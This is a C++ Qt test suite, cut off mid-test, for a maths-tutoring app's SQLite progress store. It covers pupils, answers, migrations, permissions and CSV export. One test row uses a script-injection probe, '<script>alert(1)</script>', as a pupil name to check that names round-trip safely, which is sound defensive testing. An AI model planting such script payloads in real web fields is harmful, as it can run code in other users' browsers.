#include "progress/answer_outbox.h"
#include "progress/computer_id.h"
#include "progress/export_fields.h"
#include "progress/progress_file.h"
#include "progress/progress_stats.h"
#include "progress/progress_store.h"
#include "tests/older_progress_file.h"
#include "progress/progress_words.h"

#include <QBuffer>
#include <QCoreApplication>
#include <QCryptographicHash>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QProcess>
#include <QProcessEnvironment>
#include <QRandomGenerator>
#include <QSemaphore>
#include <QThread>
#include <QtTest>

#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <sys/resource.h>
#include <thread>
#include <sys/stat.h>
#include <unistd.h>

using namespace Qt::StringLiterals;
using progress::OpenResult;
using progress::ProgressStore;
using Checks = progress::ProgressStore::Checks;

namespace {

const QDateTime Now(QDate(2026, 12, 9), QTime(8, 30), Qt::UTC);

// A write-ahead journal's header and each of its frames, at SQLite's
// page size of 4096 bytes.
constexpr qint64 WalHeader = 32;
constexpr qint64 WalFrame = 24 + 4096;

tutor::Attempt answer(const QDateTime &at, tutor::Operation operation, double first, double second,
    const QString &typed, const QString &expected, qint64 millis,
    tutor::AnswerMode mode = tutor::AnswerMode::Practice)
{
    tutor::Attempt attempt;
    attempt.answeredAt = at;
    attempt.mode = mode;
    attempt.level = tutor::Level::Beginner;
    attempt.operation = operation;
    attempt.first = first;
    attempt.second = second;
    attempt.typed = typed;
    attempt.expected = expected;
    attempt.correct = typed == expected;
    attempt.millis = millis;
    return attempt;
}

QStringList names(const QList<progress::Pupil> &pupils)
{
    QStringList list;
    for (const progress::Pupil &pupil : pupils)
        list << pupil.name;
    return list;
}

bool sameAttempt(const tutor::Attempt &one, const tutor::Attempt &other)
{
    return one.answeredAt == other.answeredAt && one.mode == other.mode && one.level == other.level
        && one.operation == other.operation && one.first == other.first
        && one.second == other.second && one.typed == other.typed && one.expected == other.expected
        && one.correct == other.correct && one.millis == other.millis;
}

QByteArray fileBytes(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// Runs statements on the file straight through the driver, as another
// program or an older version of this one would.
bool runOnFile(const QString &path, const QStringList &statements)
{
    bool done = true;
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(u"QSQLITE"_s, u"raw"_s);
        db.setDatabaseName(path);
        done = db.open();
        QSqlQuery query(db);
        for (const QString &statement : statements) {
            if (done && !query.exec(statement)) {
                qWarning("%s: %s", qPrintable(statement), qPrintable(query.lastError().text()));
                done = false;
            }
        }
    }
    QSqlDatabase::removeDatabase(u"raw"_s);
    return done;
}

// A file as version 1 left it, with an answer of Ann's.
const QStringList VersionOne = VersionOneTables
    + QStringList {
          u"INSERT INTO pupil (id, name) VALUES (4, 'Ann')"_s,
          u"INSERT INTO attempt (pupil_id, answered_at, mode, level, operation, first, second, "
          u"typed,"
          " expected, correct, millis) VALUES (4, '2026-11-02T09:15:00.250Z', 1, 1, 3, 7, 8, '54',"
          " '56', 0, 4100)"_s,
          u"INSERT INTO day_tally VALUES (4, '2026-11-02', 3, 1, 0)"_s,
      };

// A file as version 3 left it: Ann's answer and two of her My Facts cards,
// 6 x 7 missed often and 6 x 9 missed as often but known since.
const QStringList VersionThree = VersionThreeTables + VersionOne.mid(VersionOneTables.size())
    + QStringList {
          u"INSERT INTO fact_card VALUES (4, 3, 6, 7, 1, 2461000, 2460900, 2460999, 0, 2460999,"
          " 7, 12)"_s,
          u"INSERT INTO fact_card VALUES (4, 3, 6, 9, 5, 2461030, 2460900, 2461000, 3, 2461000,"
          " 9, 30)"_s,
      };

int versionOf(const QString &path)
{
    int version = -1;
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(u"QSQLITE"_s, u"version"_s);
        db.setDatabaseName(path);
        db.setConnectOptions(u"QSQLITE_OPEN_READONLY"_s);
        QSqlQuery query(db);
        if (db.open() && query.exec(u"SELECT version FROM schema_version"_s) && query.next())
            version = query.value(0).toInt();
    }
    QSqlDatabase::removeDatabase(u"version"_s);
    return version;
}

// A card as one answer on `day` leaves it, from `before`.
tutor::FactCard answered(tutor::FactCard before, bool right, bool quick, const QDate &day)
{
    tutor::applyAnswer(before, right, quick, day);
    return before;
}

tutor::FactCard newCard(tutor::Operation operation, qint16 low, qint16 high)
{
    tutor::FactCard card;
    card.family = { operation, low, high };
    return card;
}

bool sameCard(const tutor::FactCard &one, const tutor::FactCard &other)
{
    return one.family == other.family && one.box == other.box && one.due == other.due
        && one.firstSeen == other.firstSeen && one.lastSeen == other.lastSeen
        && one.quickDays == other.quickDays && one.lastQuickDay == other.lastQuickDay
        && one.misses == other.misses && one.answers == other.answers
        && one.missesSinceKnown == other.missesSinceKnown && one.dayMisses == other.dayMisses
        && one.comebacksOwed == other.comebacksOwed;
}

// The answer a card's fact was given, right or not.
tutor::Attempt factAnswer(const tutor::FactCard &card, bool right, const QDateTime &at)
{
    const tutor::Fact fact = tutor::familyFacts(card.family).first();
    const QString expected = QString::number(fact.answer);
    return answer(at, fact.operation, fact.first, fact.second,
        right ? expected : QString::number(fact.answer + 1), expected, right ? 1200 : 5000);
}

QStringList filesIn(const QString &folder)
{
    return QDir(folder).entryList(QDir::Files, QDir::Name);
}

using Modes = QList<tutor::AnswerMode>;
const Modes EveryMode { tutor::AnswerMode::Practice, tutor::AnswerMode::MissingNumber,
    tutor::AnswerMode::MissingOperation, tutor::AnswerMode::TimeTrial, tutor::AnswerMode::MyFacts };

// Who may do what with the file, as the system keeps it; -1 when missing.
int modeOf(const QString &path)
{
    struct stat found = {};
    if (::lstat(QFile::encodeName(path).constData(), &found) != 0)
        return -1;
    return int(found.st_mode & 07777);
}

// A few pupils' answers of every kind over two months, the same each run.
QList<tutor::Attempt> someAnswers(quint32 seed, int count, const Modes &modes = EveryMode)
{
    QRandomGenerator random(seed);
    QList<tutor::Attempt> answers;
    for (int index = 0; index < count; ++index) {
        const QDateTime at = Now.addSecs(-qint64(random.bounded(60 * 24 * 3600)));
        const auto operation = tutor::Operation(1 + random.bounded(4));
        const double first = random.bounded(14);
        const double second = random.bounded(14);
        const bool right = random.bounded(4) != 0;
        answers << answer(at, operation, first, second, right ? u"1"_s : u"2"_s, u"1"_s,
            random.bounded(9000), modes.at(random.bounded(int(modes.size()))));
    }
    return answers;
}

// A device that takes nothing, as a disk with no room left.
class FullDevice : public QIODevice
{
protected:
    qint64 readData(char *, qint64) override { return -1; }
    qint64 writeData(const char *, qint64) override { return -1; }
};

const char FullDiskVariable[] = "ORVI_PROGRESS_FULL_DISK";

// The child of the full disk test: keeps answers until one fails, then
// prints how many were kept and what the user would be told.
int keepAnswersUntilFull(const QString &path)
{
    ProgressStore store(path);
    const OpenResult opened = store.open(Now);
    if (opened.outcome != OpenResult::Opened) {
        std::printf("not opened: %s\n", qPrintable(opened.reason));
        return 2;
    }
    const qint64 pupil = store.pupils().value(0).id;
    int kept = 0;
    QString told;
    // Every other answer is a My Facts answer, kept with its card.
    tutor::FactCard card = newCard(tutor::Operation::Addition, 1, 1);
    for (int index = 0; index < 20000 && told.isEmpty(); ++index) {
        const tutor::Attempt attempt
            = answer(Now.addMSecs(index), tutor::Operation::Addition, 1, 1, u"2"_s, u"2"_s, 700);
        const tutor::FactCard moved = answered(card, true, true, Now.date());
        const bool withCard = index % 2 == 1;
        if (withCard ? store.record(pupil, attempt, moved) : store.record(pupil, attempt)) {
            ++kept;
            if (withCard)
                card = moved;
        } else {
            told = store.lastError();
        }
    }
    // Once full, it stays full: the next answer fails as well, whole.
    const bool nextFailed
        = !store.record(pupil, answer(Now, tutor::Operation::Addition, 1, 1, u"2"_s, u"2"_s, 1));
    std::printf("%d\n%s\n%s\n", kept, nextFailed ? "failed again" : "kept after all",
        qPrintable(told.simplified()));
    return 0;
}

} // namespace

class ProgressStoreTest : public QObject
{
    Q_OBJECT

private slots:
    void answersReadBackAsRecorded_data();
    void answersReadBackAsRecorded();
    void pupilsAreSortedAsPeopleSortThem();
    void renameToATakenNameIsRefused();
    void onePupilPerNameEvenAddedAtOnce();
    void deletingAPupilRemovesTheirHistory();
    void screensGetWhatTheAnswersAddUpTo_data();
    void screensGetWhatTheAnswersAddUpTo();
    void factCardsAreKeptWithTheirAnswer();
    void quickAnswerTimeIsKeptForEveryPupil_data();
    void quickAnswerTimeIsKeptForEveryPupil();
    void fileOfEveryEarlierVersionIsBroughtUpToDate_data();
    void fileOfEveryEarlierVersionIsBroughtUpToDate();
    void newerVersionsFileIsReadButNeverWritten();
    void answersWaitForTheClassServerUntilMarkedSent();
    void rosterFromTheClassServerFindsNamesAndErases();
    void pupilAtASecondComputerGetsTheSameSchedule();
    void damagedFileIsMovedAsideAndAFreshOneStarted_data();
    void damagedFileIsMovedAsideAndAFreshOneStarted();
    void unusableFolderKeepsNothingAndSaysWhere_data();
    void unusableFolderKeepsNothingAndSaysWhere();
    void fullDiskFailsTheAnswerWholeAndKeepsTheRest();
    void backupIsMadeOnceADayAndOldOnesPruned_data();
    void backupIsMadeOnceADayAndOldOnesPruned();
    void csvFieldsAreSafeAndInOneFixedForm_data();
    void csvFieldsAreSafeAndInOneFixedForm();
    void csvTimeIsLocalWithTheOffsetOfItsMoment_data();
    void csvTimeIsLocalWithTheOffsetOfItsMoment();
    void csvHoldsEveryAnswerExactly();
    void csvExportCanBeStopped();
};

void ProgressStoreTest::answersReadBackAsRecorded_data()
{
    QTest::addColumn<QString>("name");
    QTest::newRow("plain") << u"Ann"_s;
    QTest::newRow("quotes and commas") << u"O'Brien, \"Bee\""_s;
    QTest::newRow("line break") << u"Ann\r\nMarie"_s;
    QTest::newRow("script") << u"<script>alert(1)</script>"_s;
    QTest::newRow("right-to-left mark") << u"\u200Fשרה\u200E Lee"_s;
}

void ProgressStoreTest::answersReadBackAsRecorded()
{
    QFETCH(QString, name);
    QTemporaryDir folder;
    ProgressStore store(folder.filePath(u"progress.sqlite"_s));
    QCOMPARE(store.open(Now).outcome, OpenResult::Created);
    QVERIFY(store.isWritable());
    const std::optional<qint64> id = store.addPupil(u"  "_s + name + u" "_s);
    QVERIFY(id);
    QCOMPARE(store.addPupil(name), id); // the same pupil again

    const QList<tutor::Attempt> given {
        answer(Now.addSecs(-60), tutor::Operation::Multiplication, 7, 8, u"56"_s, u"56"_s, 2345),
        answer(Now.addMSecs(-1), tutor::Operation::Subtraction, 0.5, 12, u""_s, u"-11.5"_s, 0,
            tutor::AnswerMode::TimeTrial),
        answer(Now, tutor::Operation::Addition, 1, 2, u"x"_s, u"+"_s, 999999,
            tutor::AnswerMode::MissingOperation),
        answer(Now, tutor::Operation::Division, 56, 8, u"7"_s, u"7"_s, 1200,
            tutor::AnswerMode::MyFacts),
    };
    for (const tutor::Attempt &attempt : given)
        QVERIFY2(store.record(*id, attempt), qPrintable(store.lastError()));

    // Read back from the file by a second store, as the next start does.
    ProgressStore again(store.filePath());
    QCOMPARE(again.open(Now).outcome, OpenResult::Opened);
    QCOMPARE(names(again.pupils()), QStringList { name });
    const QList<tutor::Attempt> read = again.attempts(*id);
    QCOMPARE(read.size(), given.size());
    for (qsizetype index = 0; index < given.size(); ++index)
        QVERIFY2(sameAttempt(read.at(index), given.at(index)), qPrintable(QString::number(index)));
    QCOMPARE(again.attempts(*id, Now.addMSecs(-1)).size(), 3);
    QCOMPARE(again.attemptCount(), 4);
}

void ProgressStoreTest::pupilsAreSortedAsPeopleSortThem()
{
    QTemporaryDir folder;
    ProgressStore store(folder.filePath(u"progress.sqlite"_s));
    store.open(Now);
    for (const QString &name :
        { u"bob"_s, u"Ann"_s, u"Émile"_s, u"Zoe"_s, u"eve"_s, u"Pupil 10"_s, u"Pupil 9"_s })
        QVERIFY(store.addPupil(name));
    QVERIFY(!store.addPupil(u"  "_s));
    QCOMPARE(names(store.pupils()),
        (QStringList {
            u"Ann"_s, u"bob"_s, u"Émile"_s, u"eve"_s, u"Pupil 9"_s, u"Pupil 10"_s, u"Zoe"_s }));
}

void ProgressStoreTest::renameToATakenNameIsRefused()
{
    QTemporaryDir folder;
    ProgressStore store(folder.filePath(u"progress.sqlite"_s));
    store.open(Now);
    const qint64 ann = *store.addPupil(u"Ann"_s);
    const qint64 bob = *store.addPupil(u"Bob"_s);
    QVERIFY(!store.renamePupil(bob, u"Ann "_s));
    QVERIFY(store.lastError().contains(u"Ann"_s));
    // Nor the same name in other letters; a pupil's own name may change case.
    QVERIFY(!store.renamePupil(bob, u"aNN"_s));
    QVERIFY2(store.lastError().contains(u"called Ann"_s), qPrintable(store.lastError()));
    QVERIFY(!store.renamePupil(bob, u"\u3164"_s));
    QVERIFY(store.renamePupil(bob, u"BOB"_s));
    QVERIFY(store.renamePupil(ann, u"Anna"_s));
    QVERIFY(store.renamePupil(bob, u"Ann"_s));
    QCOMPARE(names(store.pupils()), (QStringList { u"Ann"_s, u"Anna"_s }));
    QCOMPARE(store.pupils().first().id, bob);
}

// Two programs on one file add the same pupil in other letters at the same
// moment: one waits for the other and finds the pupil it added. A file of an
// older version may hold such names twice: both stay, found by exact name.
void ProgressStoreTest::onePupilPerNameEvenAddedAtOnce()
{
    QTemporaryDir folder;
    const QString path = folder.filePath(u"progress.sqlite"_s);
    {
        ProgressStore store(path);
        QCOMPARE(store.open(Now).outcome, OpenResult::Created);
    }
    QSemaphore ready;
    QSemaphore go;
    const auto add = [&](const QString &name, std::optional<qint64> &id, QString &error) {
        ProgressStore store(path);
        store.open(Now);
        ready.release();
        go.acquire();
        id = store.addPupil(name);
        error = store.lastError();
    };
    std::optional<qint64> first;
    std::optional<qint64> second;
    QString firstError;
    QString secondError;
    {
        // A third program holds the file, so both adds wait side by side.
        QSqlDatabase db = QSqlDatabase::addDatabase(u"QSQLITE"_s, u"holder"_s);
        db.setDatabaseName(path);
        QVERIFY(db.open());
        QSqlQuery hold(db);
        std::thread one(add, u"Tom Li"_s, std::ref(first), std::ref(firstError));
        std::thread other(add, u"tom li"_s, std::ref(second), std::ref(secondError));
        ready.acquire(2);
        const bool held = hold.exec(u"BEGIN IMMEDIATE"_s);
        go.release(2);
        QThread::msleep(300);
        const bool letGo = hold.exec(u"COMMIT"_s);
        one.join();
        other.join();
        QVERIFY(held && letGo);
    }
    QSqlDatabase::removeDatabase(u"holder"_s);
    QVERIFY2(first && second, qPrintable(firstError + u" / "_s + secondError));
    QCOMPARE(first, second);
    ProgressStore store(path);
    store.open(Now);
    QCOMPARE(store.pupils().size(), 1);

    QVERIFY(runOnFile(path, { u"INSERT INTO pupil (id, name) VALUES (7, 'TOM LI')"_s }));
    QCOMPARE(store.pupils().size(), 2);
    QCOMPARE(store.addPupil(u"TOM LI"_s), std::optional<qint64>(7));
    QCOMPARE(store.addPupil(u"tom li"_s), first);
    QCOMPARE(store.pupils().size(), 2);
    QVERIFY(!store.addPupil(u" \u200d\u3164 "_s));
    QCOMPARE(store.lastError(), u"A pupil needs a name."_s);
}

void ProgressStoreTest::deletingAPupilRemovesTheirHistory()
{
    QTemporaryDir folder;
    ProgressStore store(folder.filePath(u"progress.sqlite"_s));
    store.open(Now);
    const qint64 ann = *store.addPupil(u"Ann"_s);
    const qint64 bob = *store.addPupil(u"Bob"_s);
    for (const qint64 pupil : { ann, bob, ann })
        QVERIFY(store.record(
            pupil, answer(Now, tutor::Operation::Addition, 1, 1, u"2"_s, u"2"_s, 800)));
    const tutor::FactCard card
        = answered(newCard(tutor::Operation::Addition, 1, 1), true, true, Now.date());
    QVERIFY(store.record(ann, factAnswer(card, true, Now), card));
    QVERIFY(store.deletePupil(ann));
    QCOMPARE(store.factCards(ann).size(), 0);
    QCOMPARE(names(store.pupils()), QStringList { u"Bob"_s });
    QCOMPARE(store.attempts(ann).size(), 0);
    QCOMPARE(store.attemptCount(), 1);
    QCOMPARE(store.classOverview().size(), 1);
    // A pupil of the same name later starts afresh.
    const qint64 again = *store.addPupil(u"Ann"_s);
    QCOMPARE(store.attempts(again).size(), 0);
    QCOMPARE(store.factCards(again).size(), 0);
    QCOMPARE(store.progress(again, Now).operations.first().lastMonth.answers, 0);
}

void ProgressStoreTest::screensGetWhatTheAnswersAddUpTo_data()
{
    QTest::addColumn<Modes>("modes");
    QTest::newRow("practice and games") << EveryMode;
    QTest::newRow("practice only") << Modes { tutor::AnswerMode::Practice };
    QTest::newRow("My Facts only") << Modes { tutor::AnswerMode::MyFacts };
    QTest::newRow("games only") << Modes { tutor::AnswerMode::MissingNumber,
        tutor::AnswerMode::TimeTrial };
}

void ProgressStoreTest::screensGetWhatTheAnswersAddUpTo()
{
    QFETCH(Modes, modes);
    QTemporaryDir folder;
    ProgressStore store(folder.filePath(u"progress.sqlite"_s));
    store.open(Now);
    const QList<QString> pupils { u"Cy"_s, u"Ann"_s, u"Bob"_s, u"Dee"_s };
    QHash<QString, QList<tutor::Attempt>> given;
    for (int index = 0; index < 3; ++index) {
        const qint64 id = *store.addPupil(pupils.at(index));
        given.insert(pupils.at(index), someAnswers(quint32(index + 1), 300 + 50 * index, modes));
        for (const tutor::Attempt &attempt : given.value(pupils.at(index)))
            QVERIFY(store.record(id, attempt));
    }
    store.addPupil(pupils.at(3)); // never answered

    const QList<progress::PupilTotals> overview = store.classOverview();
    QCOMPARE(overview.size(), 4);
    for (qsizetype line = 0; line < overview.size(); ++line) {
        const progress::PupilTotals &got = overview.at(line);
        const progress::PupilTotals expected
            = progress::pupilTotals(got.pupilId, got.name, given.value(got.name));
        QCOMPARE(got.name, (QStringList { u"Ann"_s, u"Bob"_s, u"Cy"_s, u"Dee"_s }).at(line));
        QCOMPARE(got.all.answers, expected.all.answers);
        QCOMPARE(got.all.right, expected.all.right);
        QCOMPARE(got.all.medianMillis, expected.all.medianMillis);
        QCOMPARE(got.daysPractised, expected.daysPractised);
        QCOMPARE(got.lastPractised, expected.lastPractised);
        QCOMPARE(got.byOperation.size(), 4);
        for (int operation = 0; operation < 4; ++operation) {
            const progress::OperationTally &tally = got.byOperation.at(operation);
            QCOMPARE(tally.operation, expected.byOperation.at(operation).operation);
            QCOMPARE(tally.tally.answers, expected.byOperation.at(operation).tally.answers);
            QCOMPARE(tally.tally.right, expected.byOperation.at(operation).tally.right);
            QCOMPARE(
                tally.tally.medianMillis, expected.byOperation.at(operation).tally.medianMillis);
        }
    }

    const qint64 bob = overview.at(1).pupilId;
    const progress::PupilProgress shown = store.progress(bob, Now);
    const progress::PupilProgress expected
        = progress::pupilProgress(u"Bob"_s, given.value(u"Bob"_s), Now);
    QCOMPARE(shown.name, u"Bob"_s);
    QCOMPARE(shown.days.size(), 30);
    for (int day = 0; day < 30; ++day)
        QCOMPARE(shown.days.at(day).tally.answers, expected.days.at(day).tally.answers);
    for (int operation = 0; operation < 4; ++operation) {
        QCOMPARE(shown.operations.at(operation).lastMonth.medianMillis,
            expected.operations.at(operation).lastMonth.medianMillis);
        QVERIFY(shown.facts.at(operation).cells == expected.facts.at(operation).cells);
    }

    // My Progress, its report, the class overview and the export count the
    // same answers of a day and of an operation.
    QBuffer csv;
    csv.open(QIODevice::WriteOnly);
    QVERIFY(store.exportCsv(csv));
    QHash<QString, int> rows; // by pupil and local day, by pupil and operation
    for (const QByteArray &line : csv.data().split('\n').mid(1)) {
        const QList<QByteArray> fields = line.split(',');
        if (fields.size() > 4) {
            ++rows[QString::fromUtf8(fields.at(0) + fields.at(1).left(10))];
            ++rows[QString::fromUtf8(fields.at(0) + fields.at(4))];
        }
    }
    for (const progress::PupilTotals &line : overview) {
        const progress::PupilProgress mine = store.progress(line.pupilId, Now);
        int byDays = 0;
        for (const progress::DayProgress &day : mine.days) {
            QCOMPARE(day.tally.answers, rows.value(line.name + day.day.toString(Qt::ISODate)));
            byDays += day.tally.answers;
        }
        for (int operation = 0; operation < 4; ++operation) {
            QCOMPARE(line.byOperation.at(operation).tally.answers,
                rows.value(line.name
                    + progress::operationInSentence(line.byOperation.at(operation).operation)));
            byDays -= mine.operations.at(operation).lastMonth.answers;
        }
        QCOMPARE(byDays, 0);
    }
}

void ProgressStoreTest::factCardsAreKeptWithTheirAnswer()
{
    QTemporaryDir folder;
    ProgressStore store(folder.filePath(u"progress.sqlite"_s));
    store.open(Now);
    const qint64 ann = *store.addPupil(u"Ann"_s);
    const qint64 bob = *store.addPupil(u"Bob"_s);
    const QDate today = Now.toLocalTime().date();

    // Given out of order, over two days; 7 x 8 moved twice, missed on the second.
    tutor::FactCard seven
        = answered(newCard(tutor::Operation::Multiplication, 7, 8), true, true, today.addDays(-1));
    QVERIFY(store.record(ann, factAnswer(seven, true, Now.addDays(-1)), seven));
    seven = answered(seven, false, false, today);
    const tutor::FactCard nine
        = answered(newCard(tutor::Operation::Subtraction, 0, 9), true, false, today);
    const tutor::FactCard two
        = answered(newCard(tutor::Operation::Multiplication, 2, 3), true, true, today);
    const tutor::FactCard five
        = answered(newCard(tutor::Operation::Multiplication, 5, 5), false, false, today);
    for (const tutor::FactCard &card : { seven, nine, two, five })
        QVERIFY2(store.record(ann, factAnswer(card, card.misses == 0, Now), card),
            qPrintable(store.lastError()));
    QVERIFY(!nine.lastQuickDay.isValid()); // kept as none

    // Read by the next start, in the order families are brought in.
    ProgressStore again(store.filePath());
    QCOMPARE(again.open(Now).outcome, OpenResult::Opened);
    const QList<tutor::FactCard> kept = again.factCards(ann);
    QCOMPARE(kept.size(), 4);
    QVERIFY(sameCard(kept.at(0), nine));
    QVERIFY(sameCard(kept.at(1), two));
    QVERIFY(sameCard(kept.at(2), five));
    QVERIFY(sameCard(kept.at(3), seven));
    QCOMPARE(again.factCards(ann, tutor::Operation::Multiplication).size(), 3);
    QCOMPARE(again.factCards(ann, tutor::Operation::Division).size(), 0);
    QCOMPARE(again.factCards(bob).size(), 0);
    // Each answer is kept as any other, counted in its day.
    QCOMPARE(again.attempts(ann).size(), 5);
    QCOMPARE(again.classOverview().first().daysPractised, 2);

    // The grid of an operation with cards shows each family's box at both
    // of its places; the others stay as the answers make them.
    const progress::PupilProgress shown = again.progress(ann, Now);
    const progress::FactGrid &times = shown.facts.at(2);
    QVERIFY(times.byBox);
    QCOMPARE(times.boxes.at(8).at(7), qint8(seven.box));
    QCOMPARE(times.boxes.at(7).at(8), qint8(seven.box));
    QCOMPARE(times.boxes.at(3).at(2), qint8(two.box));
    QCOMPARE(times.boxes.at(5).at(5), qint8(five.box));
    QCOMPARE(times.boxes.at(12).at(12), qint8(-1));
    QVERIFY(shown.facts.at(1).byBox);
    QCOMPARE(shown.facts.at(1).boxes.at(9).at(0), qint8(nine.box));
    QVERIFY(!shown.facts.at(0).byBox);
    QVERIFY(!shown.facts.at(3).byBox);
    QCOMPARE(shown.facts.at(3).cells, again.progress(bob, Now).facts.at(3).cells);

    // A card that is no fact fails its answer with it: nothing of either is kept.
    const tutor::FactCard stray
        = answered(newCard(tutor::Operation::Addition, 11, 11), true, true, today);
    QVERIFY(!again.record(ann, factAnswer(seven, true, Now), stray));
    QVERIFY(!again.lastError().isEmpty());
    QCOMPARE(again.attempts(ann).size(), 5);
    QCOMPARE(again.classOverview().first().all.answers, 5);
    QCOMPARE(again.factCards(ann).size(), 4);

    // Facts missed six times or more need teaching, most missed first.
    tutor::FactCard often = newCard(tutor::Operation::Division, 3, 4);
    tutor::FactCard oftener = newCard(tutor::Operation::Addition, 6, 7);
    for (int miss = 0; miss < tutor::MissesToFlag + 1; ++miss) {
        if (miss > 0)
            often = answered(often, false, false, today);
        oftener = answered(oftener, false, false, today);
    }
    seven.misses = tutor::MissesToFlag - 1;
    seven.missesSinceKnown = tutor::MissesToFlag - 1;
    for (const tutor::FactCard &card : { often, oftener, seven })
        QVERIFY(again.record(bob, factAnswer(card, false, Now), card));
    const QList<progress::PupilTotals> overview = again.classOverview();
    QCOMPARE(overview.at(0).needsTeaching, QList<tutor::FactFamily>());
    QCOMPARE(overview.at(1).needsTeaching, (QList { oftener.family, often.family }));
    // A miss in a game counts on a fact met before; one never met keeps no card.
    const tutor::FactCard unmet = newCard(tutor::Operation::Multiplication, 2, 9);
    for (const tutor::FactCard &card : { seven, unmet })
        QVERIFY(again.record(bob, factAnswer(card, false, Now),
            progress::CardMove { card.family, false, today, false }));
    QCOMPARE(again.classOverview().at(1).needsTeaching,
        (QList { oftener.family, seven.family, often.family }));
    QCOMPARE(again.factCards(bob).size(), 3);
}

void ProgressStoreTest::quickAnswerTimeIsKeptForEveryPupil_data()
{
    QTest::addColumn<QString>("stored"); // in the file before; empty: none
    QTest::addColumn<std::optional<int>>("set"); // then asked for
    QTest::addColumn<bool>("accepted");
    QTest::addColumn<int>("read");

    const std::optional<int> none;
    QTest::newRow("never set") << QString() << none << false << 3;
    QTest::newRow("fastest") << QString() << std::optional(1) << true << 1;
    QTest::newRow("slowest") << QString() << std::optional(10) << true << 10;
    QTest::newRow("changed") << u"4"_s << std::optional(7) << true << 7;
    QTest::newRow("too fast") << QString() << std::optional(0) << false << 3;
    QTest::newRow("too slow") << u"4"_s << std::optional(11) << false << 4;
    QTest::newRow("below nothing") << u"4"_s << std::optional(-3) << false << 4;
    QTest::newRow("not a number in the file") << u"quick"_s << none << false << 3;
    QTest::newRow("too long in the file") << u"60"_s << none << false << 10;
}

void ProgressStoreTest::quickAnswerTimeIsKeptForEveryPupil()
{
    QFETCH(QString, stored);
    QFETCH(std::optional<int>, set);
    QFETCH(bool, accepted);
    QFETCH(int, read);
    QTemporaryDir folder;
    const QString path = folder.filePath(u"progress.sqlite"_s);
    QCOMPARE(ProgressStore(path).open(Now).outcome, OpenResult::Created);
    if (!stored.isEmpty())
        QVERIFY(runOnFile(path,
            { u"INSERT INTO setting (name, value) VALUES ('quick_seconds', '%1')"_s.arg(stored) }));
    if (set) {
        ProgressStore store(path);
        store.open(Now);
        QCOMPARE(store.setQuickSeconds(*set), accepted);
        QCOMPARE(store.lastError().isEmpty(), accepted);
    }
    // Read by the next start.
    ProgressStore store(path);
    store.open(Now);
    QCOMPARE(store.quickSeconds(), read);
}

void ProgressStoreTest::fileOfEveryEarlierVersionIsBroughtUpToDate_data()
{
    QTest::addColumn<QStringList>("statements"); // empty: no file at all
    QTest::addColumn<bool>("emptyFile");
    QTest::addColumn<int>("outcome");
    QTest::addColumn<QStringList>("pupils");
    QTest::addColumn<int>("cards"); // Ann's My Facts cards
    QTest::addColumn<QList<tutor::FactFamily>>("toTeach");

    QTest::newRow("no file") << QStringList() << false << int(OpenResult::Created) << QStringList()
                             << 0 << QList<tutor::FactFamily>();
    QTest::newRow("empty file") << QStringList() << true << int(OpenResult::Created)
                                << QStringList() << 0 << QList<tutor::FactFamily>();
    QTest::newRow("version 1") << VersionOne << false << int(OpenResult::Opened)
                               << QStringList { u"Ann"_s } << 0 << QList<tutor::FactFamily>();
    QTest::newRow("version 3, with My Facts")
        << VersionThree << false << int(OpenResult::Opened) << QStringList { u"Ann"_s } << 2
        << QList { tutor::FactFamily { tutor::Operation::Multiplication, 6, 7 } };
}

void ProgressStoreTest::fileOfEveryEarlierVersionIsBroughtUpToDate()
{
    QFETCH(QStringList, statements);
    QFETCH(bool, emptyFile);
    QFETCH(int, outcome);
    QFETCH(QStringList, pupils);
    QFETCH(int, cards);
    QFETCH(QList<tutor::FactFamily>, toTeach);

    QTemporaryDir folder;
    const QString path = folder.filePath(u"progress.sqlite"_s);
    if (emptyFile) {
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
    }
    if (!statements.isEmpty())
        QVERIFY(runOnFile(path, statements));
    const QList<tutor::Attempt> before = [&]() {
        ProgressStore store(path);
        const OpenResult opened = store.open(Now);
        return opened.outcome == OpenResult::Outcome(outcome) && store.isWritable()
            ? store.attempts(store.pupils().value(0).id)
            : QList<tutor::Attempt> { tutor::Attempt() };
    }();
    QCOMPARE(versionOf(path), ProgressStore::schemaVersion());

    // What was kept reads back, and more can be kept.
    ProgressStore store(path);
    QCOMPARE(store.open(Now).outcome, OpenResult::Opened);
    QCOMPARE(names(store.pupils()), pupils);
    QCOMPARE(store.attempts(store.pupils().value(0).id).size(), before.size());
    if (!pupils.isEmpty()) {
        const qint64 ann = store.pupils().first().id;
        QCOMPARE(before.size(), 1);
        QCOMPARE(store.factCards(ann).size(), cards);
        QCOMPARE(store.classOverview().first().needsTeaching, toTeach);
        QVERIFY(sameAttempt(before.first(),
            answer(QDateTime(QDate(2026, 11, 2), QTime(9, 15, 0, 250), Qt::UTC),
                tutor::Operation::Multiplication, 7, 8, u"54"_s, u"56"_s, 4100)));
        QVERIFY(store.record(
            ann, answer(Now, tutor::Operation::Multiplication, 7, 8, u"56"_s, u"56"_s, 900)));
        QCOMPARE(store.classOverview().first().daysPractised, 2);
        QCOMPARE(store.classOverview().first().byOperation.at(2).tally.answers, 2);
        // My Facts is kept from then on.
        const tutor::FactCard card
            = answered(newCard(tutor::Operation::Multiplication, 7, 8), true, true, Now.date());
        QVERIFY(store.record(ann, factAnswer(card, true, Now), card));
        QCOMPARE(store.factCards(ann).size(), cards + 1);
    }
    QCOMPARE(store.quickSeconds(), ProgressStore::DefaultQuickSeconds);
    QVERIFY(store.setQuickSeconds(5));
    const std::optional<qint64> bee = store.addPupil(u"Bee"_s);
    QVERIFY(bee);
    QVERIFY(store.record(*bee, answer(Now, tutor::Operation::Addition, 1, 1, u"2"_s, u"2"_s, 5)));
    QVERIFY(store.integrityOk());
    // Files of earlier versions were readable by all; now only by the user.
    for (const QString &part : { QString(), u"-wal"_s, u"-shm"_s })
        QCOMPARE(modeOf(path + part), 0600);
}

void ProgressStoreTest::newerVersionsFileIsReadButNeverWritten()
{
    QTemporaryDir folder;
    const QString path = folder.filePath(u"progress.sqlite"_s);
    {
        ProgressStore store(path);
        store.open(Now);
        const qint64 ann = *store.addPupil(u"Ann"_s);
        QVERIFY(
